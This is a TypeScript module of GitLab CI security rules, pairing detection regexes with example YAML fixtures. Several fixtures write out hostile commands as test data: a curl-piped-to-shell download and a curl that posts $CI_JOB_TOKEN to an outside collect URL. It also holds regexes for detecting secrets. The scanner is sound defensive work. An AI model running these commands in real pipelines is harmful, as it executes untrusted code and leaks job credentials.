import { rulesOf, type Sight } from '../rule.ts';
import { at, entriesOf, isFalse, isRecord, listOf, type Path, textOf, type Value } from '../value.ts';
import type { YamlDocument } from '../yaml-documents.ts';

const rule = rulesOf('gitlab-ci', [
  'https://docs.gitlab.com/ci/pipelines/pipeline_security/',
  'https://owasp.org/www-project-top-10-ci-cd-security-risks/',
]);
const job = (settings: string) => `build:\n  image: example.com/build:1.2\n  ${settings}\n  script: [make]\n`;
const reserved = new Set([
  'default',
  'include',
  'stages',
  'variables',
  'workflow',
  'image',
  'services',
  'cache',
  'spec',
  'pages:deploy',
]);

const jobsOf = ({ value }: YamlDocument): Array<[string, Value]> =>
  entriesOf(value).filter(([name, body]) => isRecord(body) && (!reserved.has(name) || name === 'default'));

function scriptsOf(document: YamlDocument): Array<{ name: string; path: Path; text: string }> {
  return jobsOf(document).flatMap(([name, body]) =>
    ['before_script', 'script', 'after_script'].map((field) => {
      const lines = [at(body, field)].flat(3);
      return { name, path: [name, field], text: lines.map(textOf).join('\n') };
    }),
  );
}

const inScripts =
  (pattern: RegExp) =>
  (document: YamlDocument): Sight[] =>
    scriptsOf(document).flatMap(({ name, path, text }) => {
      const found = pattern.exec(text);
      return found
        ? [{ resource: `job ${name} ${path[1]}`, evidence: found[0].trim().slice(0, 200), ...document.linesOf(path) }]
        : [];
    });

const imagesOf = (document: YamlDocument) =>
  [['', document.value] as [string, Value], ...jobsOf(document)].flatMap(([name, body]) => {
    const path = name ? [name] : [];
    const image = at(body, 'image');
    const services = listOf(at(body, 'services')).map((service, index) => ({
      value: service,
      path: [...path, 'services', index],
    }));
    return [{ value: image, path: [...path, 'image'] }, ...services].map((used) => ({
      ...used,
      name: name || 'pipeline',
      image: textOf(used.value) || textOf(at(used.value, 'name')),
    }));
  });

/** Returns the variables of the pipeline and of each job. */
const variablesOf = (document: YamlDocument) =>
  [['', document.value] as [string, Value], ...jobsOf(document)].flatMap(([name, body]) =>
    entriesOf(at(body, 'variables')).map(([variable, value]) => ({
      job: name || 'pipeline',
      variable,
      path: [...(name ? [name] : []), 'variables', variable],
      value: isRecord(value) ? value.value : value,
    })),
  );

export const gitlabRules = [
  rule({
    id: 'gitlab-ci-secret-in-variables',
    title: 'The pipeline contains a secret',
    severity: 'high',
    cwe: ['CWE-798', 'CWE-312'],
    knownAs: ['OWASP-CICD-SEC-6'],
    risk: 'Anyone who can read the repository can read the secret.',
    remediation: 'Keep it in the project’s protected and masked CI/CD variables, and rotate the exposed value.',
    find: (document) =>
      variablesOf(document)
        .filter(
          ({ variable, value }) =>
            /(?:^|_)(?:PASSWORD|PASSWD|SECRET|API_?KEY|SECRET_?KEY|ACCESS_?KEY|PRIVATE_?KEY|AUTH_TOKEN|ACCESS_TOKEN|DEPLOY_TOKEN)$/i.test(
              variable,
            ) &&
            textOf(value) !== '' &&
            !/\$|[<>]|^(?:changeme|true|false|none|null|example|dummy|postgres|root|test|password)$/i.test(
              textOf(value),
            ),
        )
        .map(({ job, variable, path }) => ({
          resource: `job ${job} ${variable}`,
          evidence: `${variable}: …`,
          ...document.linesOf(path),
        })),
    matches: [job('variables: { DEPLOY_PASSWORD: hunter22 }'), 'variables:\n  API_KEY: { value: abcdef12 }\n'],
    misses: [job('variables: { DEPLOY_PASSWORD: $PASSWORD }'), job('variables: { POSTGRES_PASSWORD: postgres }')],
  }),
  rule({
    id: 'gitlab-ci-image-latest',
    title: 'A job’s image has no fixed version',
    severity: 'low',
    cwe: ['CWE-1357', 'CWE-829'],
    knownAs: ['CKV_GITLABCI_3', 'OWASP-CICD-SEC-3'],
    risk: 'Every run may use a different program, and an attacker who compromises the image runs code in the pipeline.',
    remediation: 'Name a version, preferably with its digest.',
    find: (document) =>
      imagesOf(document)
        .filter(
          ({ image }) =>
            image !== '' && !/[$@]/.test(image) && /^[^:]*$|:latest$/.test(image.slice(image.lastIndexOf('/') + 1)),
        )
        .map(({ name, image, path }) => ({
          resource: `job ${name} ${image}`,
          evidence: `image: ${image}`,
          ...document.linesOf(path),
        })),
    matches: [
      'a:\n  image: node\n  script: [x]\n',
      'a:\n  image: { name: "example.com:5000/node:latest" }\n  script: [x]\n',
      job('services: [postgres]'),
    ],
    misses: [job('tags: [x]'), 'a:\n  image: $IMAGE\n  script: [x]\n'],
  }),
  rule({
    id: 'gitlab-ci-pipe-to-shell',
    title: 'A script from the network is run without verification',
    severity: 'low',
    cwe: ['CWE-494', 'CWE-829'],
    knownAs: ['OWASP-CICD-SEC-3'],
    risk: 'The owner of that address runs commands with the job’s token and variables.',
    remediation: 'Download it to a file, compare its SHA-256 with a pinned value, then run it.',
    find: inScripts(
      /\b(?:curl|wget)\b[^|;&\n]*https?:\/\/[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\/bin\/)?(?:ba|z|da)?sh\b/,
    ),
    matches: ['a:\n  script:\n    - curl -sSL https://example.com/i.sh | sh\n'],
    misses: ['a:\n  script:\n    - curl -sSL https://example.com/a.json | jq .\n'],
  }),
  rule({
    id: 'gitlab-ci-token-sent',
    title: 'The job’s token is sent to another server',
    severity: 'high',
    cwe: ['CWE-522', 'CWE-201'],
    knownAs: ['CKV_GITLABCI_1'],
    risk: 'Anyone with the token can act as the job: read code, packages and registries of the projects that it has access to.',
    remediation: 'Use the token only with your own GitLab (`$CI_API_V4_URL`, `$CI_SERVER_URL`).',
    find: inScripts(
      /\b(?:curl|wget)\b(?=[^\n|;]*\$\{?CI_JOB_TOKEN)(?=[^\n|;]*https?:\/\/(?!\$|gitlab\.com\b))[^\n|;]*/,
    ),
    matches: ['a:\n  script: ["curl -d token=$CI_JOB_TOKEN https://example.com/collect"]\n'],
    misses: [
      'a:\n  script: [\'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"\']\n',
      'a:\n  script: [\'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.com/api/v4/projects\']\n',
    ],
  }),
  rule({
    id: 'gitlab-ci-tls-switched-off',
    title: 'Certificate checks are disabled for the pipeline',
    severity: 'medium',
    cwe: ['CWE-295'],
    knownAs: ['KICS-gitlab-tls'],
    risk: 'An attacker between the runner and the server can read the token and change the code.',
    remediation: 'Remove the variable and install the authority’s certificate on the runner.',
    find: (document) =>
      variablesOf(document)
        .filter(
          ({ variable, value }) =>
            (/^GIT_SSL_NO_VERIFY$/.test(variable) && /^(?:1|true)$/i.test(textOf(value))) ||
            (variable === 'NODE_TLS_REJECT_UNAUTHORIZED' && (isFalse(value) || textOf(value) === '0')),
        )
        .map(({ job, variable, value, path }) => ({
          resource: `job ${job} ${variable}`,
          evidence: `${variable}: ${textOf(value)}`,
          ...document.linesOf(path),
        })),
    matches: [job('variables: { GIT_SSL_NO_VERIFY: "true" }')],
    misses: [job('variables: { GIT_DEPTH: "1" }'), job('variables: { GIT_SSL_NO_VERIFY: "false" }')],
  }),
  rule({
    id: 'gitlab-ci-docker-without-tls',
    title: 'The pipeline connects to Docker without TLS',
    severity: 'medium',
    cwe: ['CWE-319', 'CWE-306'],
    knownAs: ['CIS-Docker-2.6'],
    risk: 'Anything else that runs beside the job can use its Docker, which is privileged.',
    remediation: 'Set `DOCKER_TLS_CERTDIR: "/certs"` and use port 2376.',
    find: (document) =>
      variablesOf(document)
        .filter(({ variable, value }) => variable === 'DOCKER_HOST' && /^tcp:\/\/[^/]+:2375\b/.test(textOf(value)))
        .map(({ job, value, path }) => ({
          resource: `job ${job} DOCKER_HOST`,
          evidence: `DOCKER_HOST: ${textOf(value)}`,
          ...document.linesOf(path),
        })),
    matches: [job('variables: { DOCKER_HOST: "tcp://docker:2375" }')],
    misses: [job('variables: { DOCKER_HOST: "tcp://docker:2376" }')],
  }),
];
